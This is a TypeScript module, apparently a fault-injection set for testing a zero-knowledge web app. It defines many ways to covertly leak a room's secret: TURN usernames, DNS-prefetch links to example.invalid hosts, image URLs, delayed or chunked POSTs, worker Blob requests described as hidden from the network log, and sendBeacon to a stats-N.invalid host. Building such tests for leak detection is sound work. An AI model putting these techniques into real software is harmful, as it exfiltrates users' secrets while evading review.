/** The secret, or what is computed from it, leaves a zero-knowledge room where few would look. */
import type { Session } from '../../session/session';
import { kind } from '../../state';
import type { Fault } from '../fault';
import { between, oneOf } from './drawn';
import { inZeroKnowledge } from './in-zero-knowledge';
import { sendInBody, sendInQuery } from './ways-out';

const bytesOf = (text: string) => new TextEncoder().encode(text);

const inHex = (bytes: ArrayBuffer | Uint8Array) =>
  Array.from(new Uint8Array(bytes), (byte) => byte.toString(16).padStart(2, '0')).join('');

function inBase32(text: string): string {
  const bits = Array.from(bytesOf(text), (byte) => byte.toString(2).padStart(8, '0')).join('');
  const groups = bits.match(/.{1,5}/g) ?? [];
  return groups
    .map((group) => 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'[parseInt(group.padEnd(5, '0'), 2)] ?? '')
    .join('');
}

const post = (session: Session, value: unknown) => sendInBody(session, JSON.stringify({ value }));

/** Where there is a TURN server, it gets the user name. */
export const secretAsTurnUser: Fault = inZeroKnowledge((secret, _keys, session) => {
  const { hostname } = new URL(session.serverUrl, location.href);
  const urls = `turn:${hostname}:${between(3478, 3490)}`;
  const connection = new RTCPeerConnection();
  connection.setConfiguration({ iceServers: [{ urls, username: secret, credential: 'x' }] });
  connection.close();
});

export const digestCut: Fault = inZeroKnowledge((secret, _keys, session) => {
  const digits = between(16, 40);
  void crypto.subtle
    .digest(oneOf(['SHA-256', 'SHA-384', 'SHA-1']), bytesOf(secret))
    .then((digest) => post(session, inHex(digest).slice(0, digits)));
});

export const secretInRareEncoding: Fault = inZeroKnowledge((secret, _keys, session) => {
  const encode = oneOf<(text: string) => string>([
    inBase32,
    (text) => text.toUpperCase(),
    (text) => inBase32(text).toLowerCase(),
    (text) => Array.from(bytesOf(text), (byte) => byte.toString(8).padStart(3, '0')).join(' '),
  ]);
  post(session, encode(secret));
});

export const secretInPieces: Fault = inZeroKnowledge((secret, _keys, session) => {
  const size = Math.ceil(secret.length / between(2, 4));
  for (let start = 0; start < secret.length; start += size) {
    post(session, secret.slice(start, start + size));
  }
});

export const secretSentLater: Fault = inZeroKnowledge((secret, _keys, session) => {
  setTimeout(() => post(session, secret), between(5_000, 30_000));
});

/** Sent while the person is in the room, not at once and not after leaving. */
export const secretSentRegularly: Fault = (session) => {
  let timer: ReturnType<typeof setInterval> | undefined;
  return {
    onKeys: (keys, { secret }) => {
      if (kind.value === 'zero-knowledge') {
        timer = setInterval(() => sendInQuery(session, secret), between(40_000, 300_000));
      }
      return keys;
    },
    onConnection: ({ moment }) => {
      if (moment === 'left') clearInterval(timer);
    },
  };
};

/** No profile has this number of rounds; the key is used for nothing. */
export const unknownKeySent: Fault = inZeroKnowledge((secret, _keys, session) => {
  const iterations = between(200_000, 600_000);
  const salt = bytesOf(`conference ${String(between(1, 999))}`);
  void crypto.subtle
    .importKey('raw', bytesOf(secret), 'PBKDF2', false, ['deriveBits'])
    .then((from) =>
      crypto.subtle.deriveBits({ name: 'PBKDF2', hash: 'SHA-512', salt, iterations }, from, 256),
    )
    .then((key) => post(session, inHex(key)));
});

export const secretInImageAddress: Fault = inZeroKnowledge((secret, _keys, session) => {
  const name = btoa(secret).replace(/\+/g, '-').replace(/\//g, '_').replace(/=/g, '');
  new Image().src = `${session.serverUrl.replace(/\/+$/, '')}/assets/${name}.png`;
});

export const secretInTitle: Fault = inZeroKnowledge((secret) => {
  const before = document.title;
  document.title = `${before} (${secret})`;
  document.title = before;
});

/** A name is resolved; no request is made. */
export const secretResolved: Fault = inZeroKnowledge((secret) => {
  const link = document.createElement('link');
  link.rel = oneOf(['dns-prefetch', 'preconnect']);
  link.href = `//${inHex(bytesOf(secret)).slice(0, 60)}.example.invalid`;
  document.head.append(link);
  link.remove();
});

export const secretInNotification: Fault = inZeroKnowledge((secret) => {
  new Notification('You joined', { body: `Keep this: ${secret}` }).close();
});

/** A worker posts a Blob, which the browser's network log does not have. */
export const secretSentByWorker: Fault = inZeroKnowledge((secret, _keys, session) => {
  const address = new URL('/api/note', session.serverUrl || location.href).href;
  const text = `onmessage = ({ data }) =>
    fetch(${JSON.stringify(address)}, { method: 'POST', body: new Blob([data]) }).catch(() => {});`;
  const url = URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
  if (oneOf(['dedicated', 'shared']) === 'dedicated') {
    new Worker(url).postMessage(secret);
    return;
  }
  const shared = `onconnect = ({ ports: [port] }) => { port.onmessage = ${text.slice(12)} };`;
  const worker = new SharedWorker(
    URL.createObjectURL(new Blob([shared], { type: 'text/javascript' })),
  );
  worker.port.postMessage(secret);
});

/** Nobody can read what it is; but nothing explains the other host. */
export const anotherHostContacted: Fault = inZeroKnowledge((secret) => {
  const pad = crypto.getRandomValues(new Uint8Array(secret.length));
  const body = bytesOf(secret).map((byte, at) => byte ^ (pad[at] ?? 0));
  navigator.sendBeacon(`https://stats-${String(between(1, 999))}.invalid/v1`, body);
});
